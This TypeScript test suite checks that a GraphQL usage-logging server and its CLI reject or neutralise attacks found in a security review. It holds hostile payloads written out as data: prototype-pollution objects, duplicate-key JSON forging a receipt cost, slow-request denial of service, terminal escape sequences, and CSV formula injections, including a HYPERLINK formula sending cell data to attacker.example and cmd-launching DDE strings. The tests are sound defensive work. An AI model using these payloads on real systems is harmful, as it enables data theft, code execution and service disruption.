/**
 * What a security test of the server found (issue 22), each reproduced as the hostile client
 * sent it, over HTTP against the real server (or the CLI in-process, on the server's database),
 * and shown refused with a clear error or neutralised:
 *
 * - 1: the query cost limit sees `first` however it is given (a literal, a variable, the default);
 * - 9: aliases of `__typename` count towards the alias limit;
 * - 9: with introspection off (LLMRING_ENV=production) no error says "Did you mean", enum values included;
 * - 3: a request's headers and body must arrive within LLMRING_REQUEST_TIMEOUT_MS, or 408;
 * - 5: a "__proto__" key, or "constructor" holding "prototype", is refused wherever JSON comes in
 *   (GraphQL literals, variables, request bodies), and such names in logged data stay plain keys;
 * - 8: JSON text that names one member twice in an object is refused (a forged receipt `cost`
 *   before the real one verified, as the parser kept the last);
 * - 7: a request with a `persistedQuery` extension gets PERSISTED_QUERY_NOT_SUPPORTED, not a 500;
 * - 4: `llmring-server export --format csv` escapes cells a spreadsheet would run as formulas;
 * - 6: CLI output (tables, --json, export to stdout) shows control characters as escapes.
 */
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { connect, type Socket } from 'node:net';
import { ApolloArmor } from '@escape.tech/graphql-armor';
import { parse, validate } from 'graphql';
import { runCli } from '../../src/cli/program';
import { buildSchema } from '../../src/graphql/schema';
import {
  asAdmin,
  createProjectWithKey,
  startSiblingServer,
  startTestServer,
  type TestProject,
  type TestServer,
} from '../helpers/server';

let server: TestServer;
let project: TestProject;

beforeAll(async () => {
  server = await startTestServer();
  project = await createProjectWithKey(server, 'hostile');
});
afterAll(() => server?.close());

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- the tests read loosely typed JSON
type Json = any;

interface Answer {
  status: number;
  text: string;
  // eslint-disable-next-line @typescript-eslint/no-explicit-any -- the tests read loosely typed JSON
  body: any;
}

/** POSTs `body` as raw text to `path` of `target` (the project's key unless `headers` says otherwise). */
interface PostOptions {
  path?: string;
  headers?: Record<string, string>;
  target?: TestServer;
}

async function post(
  body: string,
  { path = '/graphql', headers = { 'x-api-key': project.secret }, target = server }: PostOptions = {},
): Promise<Answer> {
  const res = await fetch(`${target.baseUrl}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body,
  });
  const text = await res.text();
  let parsed: Json;
  try {
    parsed = JSON.parse(text);
  } catch {
    parsed = undefined;
  }
  return { status: res.status, text, body: parsed };
}

const gql = (query: string, variables?: Record<string, unknown>, opts?: Parameters<typeof post>[1]) =>
  post(JSON.stringify({ query, variables }), opts);

async function stored(): Promise<{ logs: number; receipts: number }> {
  const [{ n: logs }] = await server.app.db('usage_logs').count({ n: '*' });
  const [{ n: receipts }] = await server.app.db('receipts').count({ n: '*' });
  return { logs: Number(logs), receipts: Number(receipts) };
}

const codes = (answer: Answer): string[] =>
  (answer.body?.errors ?? []).map((e: Json) => String(e.extensions?.code));
const messages = (answer: Answer): string =>
  (answer.body?.errors ?? []).map((e: Json) => String(e.message)).join(' | ');

describe('finding 1: the cost limit sees `first` however it is given', () => {
  let limited: TestServer;
  beforeAll(async () => {
    limited = await startSiblingServer(server, { LLMRING_MAX_QUERY_COST: '500' });
  });
  afterAll(() => limited?.close());

  const PAGE = '{ edges { node { id model metadata } } }';
  /** The cost the server reports for refusing `query`. */
  const refusedCost = (answer: Answer): number => {
    expect(answer.status).toBe(400);
    expect(codes(answer)).toEqual(['GRAPHQL_VALIDATION_FAILED']);
    const found =
      /^Query Cost limit of 500 exceeded, found ([\d.]+) \(the server's limit, set by LLMRING_MAX_QUERY_COST\)\.$/.exec(
        messages(answer),
      );
    expect(found).not.toBeNull();
    return Number(found![1]);
  };

  test('`first` as a variable costs what the same literal costs, and is refused alike', async () => {
    const literal = refusedCost(await gql(`{ usageLogs(first: 100) ${PAGE} }`, {}, { target: limited }));
    const variable = refusedCost(
      await gql(`query($n: Int) { usageLogs(first: $n) ${PAGE} }`, { n: 100 }, { target: limited }),
    );
    expect(variable).toBe(literal);
    // Under the limit, the same variable query runs.
    const small = await gql(`query($n: Int) { usageLogs(first: $n) ${PAGE} }`, { n: 5 }, { target: limited });
    expect(small.status).toBe(200);
    expect(small.body.errors).toBeUndefined();
  });

  test("a document with literal pages costs exactly what graphql-armor's rule counted", async () => {
    const documents = [
      `{ usageLogs(first: 100) ${PAGE} }`,
      '{ a: usageLogs(first: 20) { edges { node { ...Log receipt { usageLog { ...Log } } } } } b: receipts(first: 3) { edges { node { receiptId } } } } fragment Log on UsageLog { id model metadata project { id key } }',
      '{ usageLogs(first: 10) { edges { node { ... on UsageLog { id receipt { ... { receiptId } } } } } pageInfo { hasNextPage } } }',
      '{ usageStats { summary { requests cost } byAlias { aliasName requests } } __schema { types { name } } }',
    ];
    const schema = buildSchema();
    for (const document of documents) {
      let armorCost: number | undefined;
      const armor = new ApolloArmor({
        maxDepth: { enabled: false },
        maxAliases: { enabled: false },
        maxDirectives: { enabled: false },
        maxTokens: { enabled: false },
        costLimit: {
          maxCost: 0,
          propagateOnRejection: false,
          onReject: [(_c, e) => (armorCost = Number(/found (\d+(?:\.\d+)?)/.exec(e.message)![1]))],
        },
      });
      expect(validate(schema, parse(document), armor.protect().validationRules)).toEqual([]);
      expect(armorCost).toBeGreaterThan(0);
      const answer = await gql(document, {}, { target: limited });
      if (armorCost! > 500) expect(refusedCost(answer)).toBe(armorCost);
      else expect(answer.status).toBe(200);
    }
  });

  test("an omitted `first` costs its default (50), and a variable's default counts", async () => {
    const fifty = refusedCost(await gql(`{ usageLogs(first: 50) ${PAGE} }`, {}, { target: limited }));
    expect(refusedCost(await gql(`{ usageLogs ${PAGE} }`, {}, { target: limited }))).toBe(fifty);
    expect(
      refusedCost(await gql(`query($n: Int = 50) { usageLogs(first: $n) ${PAGE} }`, {}, { target: limited })),
    ).toBe(fifty);
  });

  test("the issue's reproduction: 199 aliases of a nested page with first: $n = 500 are refused, not run", async () => {
    const nested =
      'edges { node { metadata receipt { usageLog { metadata receipt { usageLog { metadata } } } } } }';
    const fields = Array.from({ length: 199 }, (_, i) => `a${i}: usageLogs(first: $n) { ${nested} }`).join(
      ' ',
    );
    const answer = await gql(`query($n: Int) { ${fields} }`, { n: 500 });
    expect(answer.status).toBe(400);
    expect(codes(answer)).toEqual(['GRAPHQL_VALIDATION_FAILED']);
    expect(messages(answer)).toMatch(
      /^Query Cost limit of 200000 exceeded, found \d+.*LLMRING_MAX_QUERY_COST/,
    );
    expect(answer.body.data).toBeUndefined();
  });

  test('a variable that is not an Int is still refused as bad input, not costed', async () => {
    const answer = await gql(
      `query($n: Int) { usageLogs(first: $n) ${PAGE} }`,
      { n: '100' },
      { target: limited },
    );
    expect(answer.status).toBe(400);
    expect(codes(answer)).toEqual(['BAD_USER_INPUT']);
    expect(messages(answer)).toMatch(/Int cannot represent/);
  });
});

describe('finding 9: aliases of __typename count', () => {
  let limited: TestServer;
  beforeAll(async () => {
    limited = await startSiblingServer(server, { LLMRING_MAX_ALIASES: '3' });
  });
  afterAll(() => limited?.close());

  test('`__typename` aliases count towards LLMRING_MAX_ALIASES', async () => {
    const answer = await gql(
      '{ a: __typename b: __typename c: __typename d: __typename }',
      {},
      { target: limited },
    );
    expect(answer.status).toBe(400);
    expect(codes(answer)).toEqual(['GRAPHQL_VALIDATION_FAILED']);
    expect(messages(answer)).toMatch(/Aliases limit of 3 exceeded, found 4.*LLMRING_MAX_ALIASES/);
  });
});

describe('finding 9: no "Did you mean" where introspection is off', () => {
  let production: TestServer;
  beforeAll(async () => {
    production = await startSiblingServer(server, { LLMRING_ENV: 'production' });
  });
  afterAll(() => production?.close());

  // [case, query, variables, what only the hint names]
  test.each([
    [
      'an unknown enum value in the document',
      '{ usageStats(groupBy: DAYY) { summary { requests } } }',
      {},
      /"DAY"/,
    ],
    [
      'an unknown enum value in a variable',
      'query($g: TimeBucket) { usageStats(groupBy: $g) { summary { requests } } }',
      { g: 'DAYY' },
      /"DAY"/,
    ],
    [
      'a string where an enum value belongs',
      '{ usageStats(groupBy: "DAY") { summary { requests } } }',
      {},
      /enum value "/,
    ],
    ['an unknown field', '{ usageStatz { summary { requests } } }', {}, /"usageStats"/],
    ['an unknown argument', '{ usageLogs(frist: 1) { edges { cursor } } }', {}, /"first"/],
    [
      'an unknown input field',
      '{ usageLogs(filter: { aliasNam: ["a"] }) { edges { cursor } } }',
      {},
      /"aliasNames"/,
    ],
  ])(
    '%s: the hint is shown in development, not with LLMRING_ENV=production',
    async (_n, query, vars, hint) => {
      const development = await gql(query, vars);
      expect(development.status).toBe(400);
      expect(messages(development)).toMatch(/Did you mean/);
      expect(messages(development)).toMatch(hint);
      const answer = await gql(query, vars, { target: production });
      expect(answer.status).toBe(400);
      expect(codes(answer).length).toBeGreaterThan(0);
      expect(messages(answer)).not.toMatch(/Did you mean|Suggestion/);
      expect(messages(answer)).not.toMatch(hint);
    },
  );
});

describe('finding 3: a request must arrive within LLMRING_REQUEST_TIMEOUT_MS', () => {
  // Small for the test, with room for a busy machine between the limit and the slow request below.
  const TIMEOUT = 1000;
  let timed: TestServer;
  beforeAll(async () => {
    timed = await startSiblingServer(server, { LLMRING_REQUEST_TIMEOUT_MS: String(TIMEOUT) });
  });
  afterAll(() => timed?.close());

  interface Exchange {
    /** Everything the server sent before it closed the connection. */
    text: string;
    /** From connecting to the close. */
    ms: number;
  }

  /**
   * A raw TCP connection to the server: `talk` writes to it as it likes; resolves when the server
   * closes the connection (or after 10 s, when the client gives up).
   */
  function exchange(talk: (socket: Socket) => void): Promise<Exchange> {
    const { port } = new URL(timed.baseUrl);
    return new Promise((resolve, reject) => {
      const started = Date.now();
      let text = '';
      const socket = connect(Number(port), '127.0.0.1', () => talk(socket));
      const giveUp = setTimeout(() => socket.destroy(), 10_000);
      socket.setEncoding('utf8');
      socket.on('data', (chunk: string) => (text += chunk));
      socket.on('error', reject);
      socket.on('close', () => {
        clearTimeout(giveUp);
        resolve({ text, ms: Date.now() - started });
      });
    });
  }

  const headers = (length: number, extra = '') =>
    `POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n${extra}\r\n`;
  const BODY = JSON.stringify({ query: '{ __typename }' });

  /** The server answered 408, saying which setting, and closed the connection in time. */
  function expectTimedOut({ text, ms }: Exchange) {
    expect(text).toMatch(/^HTTP\/1\.1 408 Request Timeout\r\n/);
    const body = JSON.parse(text.slice(text.indexOf('\r\n\r\n') + 4));
    expect(body).toEqual({
      statusCode: 408,
      code: 'REQUEST_TIMEOUT',
      error: 'Request Timeout',
      message: `The request did not arrive in full within ${TIMEOUT} ms (the server's limit, set by LLMRING_REQUEST_TIMEOUT_MS)`,
    });
    expect(ms).toBeGreaterThanOrEqual(TIMEOUT - 50);
    // Node looks for overdue requests four times per limit; the rest is a busy machine's slack.
    expect(ms).toBeLessThan(TIMEOUT + 2500);
  }

  test('a body announced as 100,000 bytes and sent one byte at a time: 408, then closed', async () => {
    let timer: NodeJS.Timeout | undefined;
    const answer = await exchange((socket) => {
      socket.write(headers(100_000));
      timer = setInterval(() => socket.writable && socket.write('{'), 100);
    });
    clearInterval(timer);
    expectTimedOut(answer);
  });

  test('a connection that sends nothing: 408, then closed', async () => {
    expectTimedOut(await exchange(() => undefined));
  });

  test('headers that never end: 408, then closed', async () => {
    expectTimedOut(await exchange((socket) => socket.write('POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\n')));
  });

  test('a slow request that arrives within the limit is answered', async () => {
    const { text } = await exchange((socket) => {
      socket.write(headers(BODY.length, 'Connection: close\r\n'));
      const [a, b] = [BODY.slice(0, 10), BODY.slice(10)];
      setTimeout(() => socket.write(a), 150);
      setTimeout(() => socket.write(b), 300);
    });
    expect(text).toMatch(/^HTTP\/1\.1 200 OK\r\n/);
    expect(text).toContain('{"data":{"__typename":"Query"}}');
  });

  test('the limit is per request: a keep-alive connection idle for longer serves its next request', async () => {
    const { text } = await exchange((socket) => {
      socket.write(headers(BODY.length) + BODY);
      setTimeout(() => socket.write(headers(BODY.length, 'Connection: close\r\n') + BODY), TIMEOUT * 2);
    });
    expect(text.match(/HTTP\/1\.1 200 OK\r\n/g)).toHaveLength(2);
    expect(text).not.toContain('408');
  });
});

describe('finding 5: one guard for prototype keys, on every input path', () => {
  const LOG_INLINE = (metadata: string) =>
    `mutation { logUsage(input: {provider: "openai", model: "gpt-4o", inputTokens: 1, outputTokens: 1, metadata: ${metadata}}) { usageLog { id metadata } } }`;

  /** Refused as bad input, with a message naming the key and where it is; nothing stored. */
  async function expectRefused(send: () => Promise<Answer>, code: string, where: RegExp) {
    const before = await stored();
    const answer = await send();
    expect(answer.status).toBe(400);
    expect(answer.text).not.toContain('INTERNAL_SERVER_ERROR');
    const text = answer.body.errors ? messages(answer) : String(answer.body.detail ?? answer.body.message);
    if (answer.body.errors) expect(codes(answer)).toEqual([code]);
    else expect(answer.body.code ?? answer.body.statusCode).toBe(code);
    expect(text).toMatch(where);
    expect(text).toMatch(/prototype poisoning/);
    expect(await stored()).toEqual(before);
    expect(({} as Json).isAdmin).toBeUndefined();
    expect(({} as Json).polluted).toBeUndefined();
  }

  test.each([
    [
      "the issue's literal",
      '{__proto__: {isAdmin: true}, constructor: {prototype: {polluted: "yes"}}}',
      /"__proto__" key at __proto__/,
    ],
    [
      'constructor.prototype alone',
      '{constructor: {prototype: {polluted: "yes"}}}',
      /"constructor" key holding "prototype" at constructor/,
    ],
    [
      '__proto__ deep in a list',
      '{a: [1, {b: {__proto__: {isAdmin: true}}}]}',
      /"__proto__" key at a\[1\]\.b\.__proto__/,
    ],
  ])('a GraphQL literal with %s: BAD_USER_INPUT, nothing stored', (_name, metadata, where) =>
    expectRefused(() => gql(LOG_INLINE(metadata)), 'BAD_USER_INPUT', where),
  );

  test('a JSONObject variable sent by GET (Apollo parses it, not the body parser): 400 from the same guard', async () => {
    const query = 'query($d: JSONObject!) { verifyReceipt(document: $d) { valid } }';
    const variables = '{"d": {"x": {"__proto__": {"isAdmin": true}}}}';
    await expectRefused(
      async () => {
        const res = await fetch(
          `${server.url}?query=${encodeURIComponent(query)}&variables=${encodeURIComponent(variables)}`,
          { headers: { 'apollo-require-preflight': 'true' } },
        );
        const text = await res.text();
        return { status: res.status, text, body: JSON.parse(text) };
      },
      'BAD_REQUEST',
      /The variables parameter has a "__proto__" key at d\.x\.__proto__/,
    );
  });

  test('the same in a JSON body, to /graphql and to the REST route: 400 from the same guard', async () => {
    const body = (metadata: string) =>
      `{"query": "mutation($m: JSONObject) { logUsage(input: {provider: \\"openai\\", model: \\"gpt-4o\\", inputTokens: 1, outputTokens: 1, metadata: $m}) { usageLog { id } } }", "variables": {"m": ${metadata}}}`;
    await expectRefused(
      () => post(body('{"a": {"__proto__": {}}}')),
      'BAD_REQUEST',
      /"__proto__" key at variables\.m\.a\.__proto__/,
    );
    await expectRefused(
      () => post(body('{"constructor": {"prototype": {}}}')),
      'BAD_REQUEST',
      /"constructor" key holding "prototype" at variables\.m\.constructor/,
    );
    await expectRefused(
      () =>
        post(
          '{"model": "m", "provider": "p", "input_tokens": 1, "output_tokens": 1, "metadata": {"__proto__": {"isAdmin": true}}}',
          {
            path: '/api/v1/log',
          },
        ),
      'FST_ERR_CTP_INVALID_JSON_BODY',
      /"__proto__" key at metadata\.__proto__/,
    );
  });

  test('keys that only look alike are stored as they are', async () => {
    const answer = await gql(
      LOG_INLINE('{proto: 1, _proto_: 2, constructor: "c", prototype: {constructor: 3}}'),
    );
    expect(answer.body.errors).toBeUndefined();
    expect(answer.body.data.logUsage.usageLog.metadata).toEqual({
      proto: 1,
      _proto_: 2,
      constructor: 'c',
      prototype: { constructor: 3 },
    });
  });

  test('/api/v1/stats: aliases, origins and models named __proto__ or constructor are ordinary keys', async () => {
    for (const [alias, origin, model] of [
      ['__proto__', '__proto__', 'constructor'],
      ['constructor', 'toString', '__proto__'],
    ]) {
      const logged = await post(
        JSON.stringify({ model, provider: 'p', input_tokens: 3, output_tokens: 4, alias, origin }),
        { path: '/api/v1/log' },
      );
      expect(logged.status).toBe(200);
    }
    const res = await fetch(`${server.baseUrl}/api/v1/stats`, { headers: { 'x-api-key': project.secret } });
    expect(res.status).toBe(200);
    const text = await res.text();
    // Parsed as JSON.parse does (own keys, no prototype change), every name is there as a key.
    const stats = JSON.parse(text);
    for (const [group, names] of [
      ['by_alias', ['__proto__', 'constructor']],
      ['by_origin', ['__proto__', 'toString']],
      ['by_model', ['constructor', '__proto__']],
    ] as const) {
      expect(Object.getPrototypeOf(stats[group])).toBe(Object.prototype);
      for (const name of names) {
        expect(Object.prototype.hasOwnProperty.call(stats[group], name)).toBe(true);
        expect(stats[group][name]).toMatchObject({ requests: 1, input_tokens: 3, output_tokens: 4 });
      }
    }
    expect(text).toContain('"by_alias":{"__proto__":{"requests":1');
    expect(({} as Json).requests).toBeUndefined();
  });
});

describe('finding 8: a member named twice in one object is refused wherever JSON text comes in', () => {
  const VERIFY = 'query($d: JSONObject!) { verifyReceipt(document: $d) { valid reason } }';

  /** A genuine receipt document, and its text with a forged cost placed before the real one. */
  async function forgedReceiptText(): Promise<{ genuine: Json; forged: string }> {
    const logged = await gql(
      'mutation { logUsage(input: {provider: "openai", model: "gpt-4o", inputTokens: 10, outputTokens: 5, cost: 0.5}) { receipt { document } } }',
    );
    const genuine = logged.body.data.logUsage.receipt.document;
    const forgedCost = JSON.stringify({ ...genuine.cost, amount: '0.00000001' });
    return { genuine, forged: `{"cost":${forgedCost},${JSON.stringify(genuine).slice(1)}` };
  }

  async function expectDuplicateRefused(send: () => Promise<Answer>, code: string, where: RegExp) {
    const before = await stored();
    const answer = await send();
    expect(answer.status).toBe(400);
    if (answer.body.errors) expect(codes(answer)).toEqual([code]);
    else expect(answer.body.code).toBe(code);
    const text = answer.body.errors ? messages(answer) : String(answer.body.message);
    expect(text).toMatch(where);
    expect(text).toMatch(/member names must be unique/);
    expect(await stored()).toEqual(before);
  }

  test("the issue's forged receipt: the genuine text verifies, the one with a forged cost before the real one is refused", async () => {
    const { genuine, forged } = await forgedReceiptText();
    const valid = await gql(VERIFY, { d: genuine });
    expect(valid.body.data.verifyReceipt).toEqual({ valid: true, reason: null });
    await expectDuplicateRefused(
      () => post(`{"query": ${JSON.stringify(VERIFY)}, "variables": {"d": ${forged}}}`),
      'BAD_REQUEST',
      /The request body has the member "cost" twice, in variables\.d\b/,
    );
  });

  test('the same by GET, in the variables parameter: refused', async () => {
    const { forged } = await forgedReceiptText();
    await expectDuplicateRefused(
      async () => {
        const res = await fetch(
          `${server.url}?query=${encodeURIComponent(VERIFY)}&variables=${encodeURIComponent(`{"d": ${forged}}`)}`,
          { headers: { 'apollo-require-preflight': 'true' } },
        );
        const text = await res.text();
        return { status: res.status, text, body: JSON.parse(text) };
      },
      'BAD_REQUEST',
      /The variables parameter has the member "cost" twice, in d\b/,
    );
  });

  test('written in the document, GraphQL itself refuses it', async () => {
    const answer = await gql('{ verifyReceipt(document: {cost: "1", cost: "2"}) { valid } }');
    expect(answer.status).toBe(400);
    expect(codes(answer)).toEqual(['GRAPHQL_VALIDATION_FAILED']);
    expect(messages(answer)).toMatch(/only one input field named "cost"/);
  });

  test.each([
    [
      'at the top level',
      '{"query": "{ __typename }", "query": "{ __typename }"}',
      /member "query" twice, at the top level/,
    ],
    [
      'spelled with an escape',
      `{"query": ${JSON.stringify(VERIFY)}, "variables": {"d": {"cost": 1, "\\u0063ost": 2}}}`,
      /member "cost" twice, in variables\.d\b/,
    ],
    [
      'in an object in a list',
      '{"query": "mutation($i: [LogUsageInput!]!) { logUsageBatch(inputs: $i) { results { replayed } } }", "variables": {"i": [{"provider": "a", "model": "m", "inputTokens": 1, "outputTokens": 1}, {"provider": "a", "model": "m", "inputTokens": 1, "outputTokens": 1, "model": "forged"}]}}',
      /member "model" twice, in variables\.i\[1\]/,
    ],
  ])('a body with a member named twice %s: 400', (_name, body, where) =>
    expectDuplicateRefused(() => post(body), 'BAD_REQUEST', where),
  );

  test('the REST route: 400 with the same message', () =>
    expectDuplicateRefused(
      () =>
        post(
          '{"model": "gpt-4o", "provider": "openai", "input_tokens": 1, "output_tokens": 1, "cost": 9, "cost": 0.001}',
          {
            path: '/api/v1/log',
          },
        ),
      'FST_ERR_CTP_INVALID_JSON_BODY',
      /The request body has the member "cost" twice, at the top level/,
    ));

  test('the same name in different objects, and strings that look like members, are fine', async () => {
    const answer = await post(
      JSON.stringify({
        query: VERIFY,
        variables: {
          d: {
            a: { x: 1 },
            b: { x: 1 },
            c: [{ x: 1 }, { x: 2 }],
            s: '"a": 1, "a": 2',
            t: 'quote \\" and \\\\',
          },
        },
      }),
    );
    expect(answer.status).toBe(200);
    expect(answer.body.data.verifyReceipt.valid).toBe(false);
  });
});

describe('finding 7: persisted queries are not offered, and asking for one is a client error', () => {
  const TYPENAME_SHA = createHash('sha256').update('{ __typename }').digest('hex');

  test.each([
    ['a hash alone', { extensions: { persistedQuery: { version: 1, sha256Hash: TYPENAME_SHA } } }],
    [
      'a query with a hash that does not match it',
      { query: '{ __typename }', extensions: { persistedQuery: { version: 1, sha256Hash: 'abc' } } },
    ],
    [
      'a query with its own hash',
      { query: '{ __typename }', extensions: { persistedQuery: { version: 1, sha256Hash: TYPENAME_SHA } } },
    ],
    [
      'an unknown version',
      { query: '{ __typename }', extensions: { persistedQuery: { version: 2, sha256Hash: TYPENAME_SHA } } },
    ],
  ])('anonymous, %s: PERSISTED_QUERY_NOT_SUPPORTED, nothing logged as an error', async (_name, body) => {
    const logged = server.logs().length;
    const answer = await post(JSON.stringify(body), { headers: {} });
    expect(answer.status).toBeLessThan(500);
    expect(codes(answer)).toEqual(['PERSISTED_QUERY_NOT_SUPPORTED']);
    expect(answer.body.data).toBeUndefined();
    const since = server.logs().slice(logged);
    expect(since).not.toMatch(/"level":50/);
    expect(since).not.toContain('unexpected error');
  });

  test('the same by GET', async () => {
    const extensions = encodeURIComponent(
      JSON.stringify({ persistedQuery: { version: 1, sha256Hash: 'abc' } }),
    );
    const res = await fetch(
      `${server.url}?query=${encodeURIComponent('{ __typename }')}&extensions=${extensions}`,
      {
        headers: { 'apollo-require-preflight': 'true' },
      },
    );
    expect(res.status).toBeLessThan(500);
    const body = (await res.json()) as Json;
    expect(body.errors.map((e: Json) => e.extensions.code)).toEqual(['PERSISTED_QUERY_NOT_SUPPORTED']);
  });
});

/** The CLI in-process on the server's database, as an operator runs it beside the server. */
async function cli(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  const run = { code: -1, out: '', err: '' };
  const sink = (key: 'out' | 'err') => ({
    write: (s: string) => {
      run[key] += s;
      return true;
    },
    once: () => undefined,
  });
  run.code = await runCli(args, {
    stdout: sink('out'),
    stderr: sink('err'),
    env: { LLMRING_ENV: 'test' },
    db: server.app.db,
  });
  return run;
}

/** Logs one call through the API with the given string fields, as the client chose them. */
async function logCall(key: string, fields: Record<string, string>): Promise<void> {
  const answer = await gql(
    'mutation($input: LogUsageInput!) { logUsage(input: $input) { usageLog { id } } }',
    { input: { provider: 'openai', model: 'gpt-4o', inputTokens: 10, outputTokens: 5, ...fields } },
    { headers: { 'x-api-key': key } },
  );
  expect(answer.body.errors).toBeUndefined();
}

/** RFC 4180 records of `text` (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && (ch === ',' || ch === '\n')) {
      record.push(cell);
      cell = '';
      if (ch === '\n') {
        records.push(record);
        record = [];
      }
    } else {
      cell += ch;
    }
  }
  return records;
}

describe('finding 4: the CSV export cannot carry spreadsheet formulas', () => {
  let tmp: string;
  beforeAll(() => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'llmring-hostile-'));
  });
  afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

  // Every string column a client chooses, each starting as a spreadsheet formula would.
  const HOSTILE = {
    aliasName: '=HYPERLINK("http://attacker.example/?d="&A1,"open")',
    model: "+cmd|' /C calc'!A0",
    origin: "@SUM(1+1)*cmd|' /C calc'!A0",
    profile: "-2+3+cmd|' /C calc'!A0",
    idAtOrigin: '\t=1+1',
    idempotencyKey: '\r=1+1',
    provider: '＝1+1',
  };
  const COLUMNS: Record<string, string> = {
    aliasName: 'alias_name',
    model: 'model',
    origin: 'origin',
    profile: 'profile',
    idAtOrigin: 'id_at_origin',
    idempotencyKey: 'idempotency_key',
    provider: 'provider',
  };

  test('cells that start with = + - @ tab CR (or their fullwidth forms) get a leading apostrophe, numbers stay', async () => {
    const csv = await createProjectWithKey(server, 'csv-formulas');
    await logCall(csv.secret, HOSTILE);
    const file = path.join(tmp, 'usage.csv');
    const run = await cli('export', '--project', 'csv-formulas', '--format', 'csv', '-o', file);
    expect(run.code).toBe(0);
    const [header, ...rows] = parseCsv(fs.readFileSync(file, 'utf8'));
    expect(rows).toHaveLength(1);
    const row = Object.fromEntries(header.map((name, i) => [name, rows[0][i]]));
    for (const [field, value] of Object.entries(HOSTILE)) {
      expect(row[COLUMNS[field]]).toBe(`'${value}`);
    }
    for (const cell of rows[0]) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    expect(row).toMatchObject({ input_tokens: '10', output_tokens: '5', project_key: 'csv-formulas' });
  });

  test('the export help says so', async () => {
    const run = await cli('export', '--help');
    expect(run.out).toMatch(/=, \+, -, @, tab or carriage return/);
    expect(run.out).toMatch(/apostrophe/);
  });
});

describe('finding 6: no CLI output carries terminal control characters', () => {
  // An alias that clears the screen and sets the window title (with ESC, then the C1 CSI U+009B);
  // a model that forges a table row; right-to-left overrides, line separators and DEL.
  const HOSTILE = {
    aliasName: '\u001b[2J\u001b]0;pwned\u0007\u009b2J',
    model: 'gpt\r\nforged-row  999  $0.0000\u2028\u202e',
    origin: '\u009b31mred',
    profile: '\u202eevil',
    idAtOrigin: 'a\u2028b\u007f',
  };
  /** What a terminal acts on: C0 but newline, DEL, C1, bidi controls, line and paragraph separators. */
  /* eslint-disable no-control-regex -- matching control characters is the point */
  const ACTIVE =
    /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;
  /* eslint-enable no-control-regex */
  let tmp: string;

  beforeAll(async () => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'llmring-hostile-'));
    const term = await createProjectWithKey(server, 'terminal');
    await logCall(term.secret, HOSTILE);
    // A project name is the admin's, but is shown in tables too.
    const created = await gql(
      'mutation($input: CreateProjectInput!) { createProject(input: $input) { id } }',
      { input: { key: 'terminal-2', name: 'Title \u001b]0;pwned\u0007 here' } },
      { headers: asAdmin },
    );
    expect(created.body.errors).toBeUndefined();
  });
  afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

  test('stats tables show the escapes, and no row can be forged', async () => {
    const run = await cli('stats', '--project', 'terminal');
    expect(run.code).toBe(0);
    expect(run.out).not.toMatch(ACTIVE);
    expect(run.out).toContain('\\u001b[2J\\u001b]0;pwned\\u0007');
    expect(run.out).toContain('gpt\\u000d\\u000aforged-row');
    expect(run.out.split('\n').some((line) => line.startsWith('forged-row'))).toBe(false);
  });

  test('stats --json: the same values, exactly, with nothing a terminal acts on', async () => {
    const run = await cli('stats', '--project', 'terminal', '--json');
    expect(run.out).not.toMatch(ACTIVE);
    const stats = JSON.parse(run.out);
    expect(stats.byAlias.map((a: Json) => a.aliasName)).toEqual([HOSTILE.aliasName]);
    expect(stats.byModel.map((m: Json) => m.model)).toEqual([HOSTILE.model]);
  });

  test('project list shows a name with escapes', async () => {
    const run = await cli('project', 'list');
    expect(run.out).not.toMatch(ACTIVE);
    expect(run.out).toContain('Title \\u001b]0;pwned\\u0007 here');
  });

  test('export to stdout: CSV and JSON Lines carry no control character; JSON Lines stay exact', async () => {
    const csv = await cli('export', '--project', 'terminal', '--format', 'csv');
    expect(csv.code).toBe(0);
    expect(csv.out).not.toMatch(ACTIVE);
    expect(csv.out).toContain('\\u001b[2J\\u001b]0;pwned\\u0007');
    expect(csv.out.trimEnd().split('\n')).toHaveLength(2); // the header and one row: no forged line
    const jsonl = await cli('export', '--project', 'terminal', '--format', 'jsonl');
    expect(jsonl.out).not.toMatch(ACTIVE);
    const [row] = jsonl.out
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(row).toMatchObject({
      alias_name: HOSTILE.aliasName,
      model: HOSTILE.model,
      origin: HOSTILE.origin,
      profile: HOSTILE.profile,
      id_at_origin: HOSTILE.idAtOrigin,
    });
  });

  test('export to a file keeps the values as logged', async () => {
    const file = path.join(tmp, 'usage.csv');
    expect((await cli('export', '--project', 'terminal', '--format', 'csv', '-o', file)).code).toBe(0);
    const [header, row] = parseCsv(fs.readFileSync(file, 'utf8'));
    const cells = Object.fromEntries(header.map((name, i) => [name, row[i]]));
    expect(cells).toMatchObject({
      alias_name: HOSTILE.aliasName,
      model: HOSTILE.model,
      origin: HOSTILE.origin,
      profile: HOSTILE.profile,
      id_at_origin: HOSTILE.idAtOrigin,
    });
  });
});
